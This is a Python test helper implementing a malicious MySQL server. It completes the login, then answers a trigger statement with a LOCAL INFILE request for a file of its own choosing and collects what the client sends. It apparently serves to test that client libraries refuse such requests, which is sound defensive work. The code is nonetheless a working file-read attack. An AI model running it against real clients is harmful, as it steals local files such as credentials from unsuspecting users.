"""A server of bad intent: it completes the login and then asks the client for a file of its own."""

from __future__ import annotations

import socket
import struct
import threading
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from types import TracebackType

_CAPABILITIES = 0x00 | 0x1 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000 | 0x200000
"""LONG_PASSWORD, LOCAL_FILES, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, PLUGIN_AUTH, LENENC auth data."""
_OK = b"\x00\x00\x00\x02\x00\x00\x00"
_END = b"\xfe\x00\x00\x02\x00"
_COLUMN = b"\x03def\x00\x00\x00\x01n\x00\x0c\x3f\x00\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00"
_NUMBERS = (b"\x02", _COLUMN, _COLUMN, _END, b"\x011\x0867108864", _END)
"""A result of two columns and one row."""


class RogueServer:
    """Answers a statement that contains `trigger` with a request for `file`, all others with OK, but that a loader who
    asks is told that files may be sent.

    `received` is what clients sent in answer to such requests, `asked` how many there were.
    """

    host = "127.0.0.1"

    def __init__(self, trigger: bytes, file: str) -> None:
        self._trigger = trigger
        self._file = file.encode()
        self._listener = socket.create_server((self.host, 0))
        self.port = self._listener.getsockname()[1]
        self.received = b""
        self.asked = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> RogueServer:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(5)

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            with client:
                client.settimeout(5)
                try:
                    self._talk(client)
                except (OSError, EOFError):
                    continue

    def _talk(self, client: socket.socket) -> None:
        _send(client, 0, _greeting())
        sequence, _ = _receive(client)
        _send(client, sequence + 1, _OK)
        while True:
            sequence, statement = _receive(client)
            if statement[:1] == b"\x01":  # the client says goodbye
                return
            if self._trigger not in statement.upper():
                answer = _NUMBERS if b"@@max_allowed_packet" in statement else (_OK,)
                for number, packet in enumerate(answer, sequence + 1):
                    _send(client, number, packet)
                continue
            self.asked += 1
            _send(client, sequence + 1, b"\xfb" + self._file)
            sequence, piece = _receive(client)
            while piece and sequence:  # 0 begins another statement: the client took no notice
                self.received += piece
                sequence, piece = _receive(client)
            _send(client, sequence + 1, _OK)


def _greeting() -> bytes:
    return (
        b"\x0a8.4.0-rogue\x00"
        + struct.pack("<I", 7)
        + b"abcdefgh\x00"
        + struct.pack("<H", _CAPABILITIES & 0xFFFF)
        + b"\x2d\x02\x00"
        + struct.pack("<H", _CAPABILITIES >> 16)
        + b"\x15"
        + bytes(10)
        + b"ijklmnopqrst\x00"
        + b"mysql_native_password\x00"
    )


def _send(client: socket.socket, sequence: int, payload: bytes) -> None:
    client.sendall(struct.pack("<I", len(payload))[:3] + bytes([sequence & 0xFF]) + payload)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    head = _exactly(client, 4)
    return head[3], _exactly(client, int.from_bytes(head[:3], "little"))


def _exactly(client: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        piece = client.recv(size - len(data))
        if not piece:
            raise EOFError
        data += piece
    return data
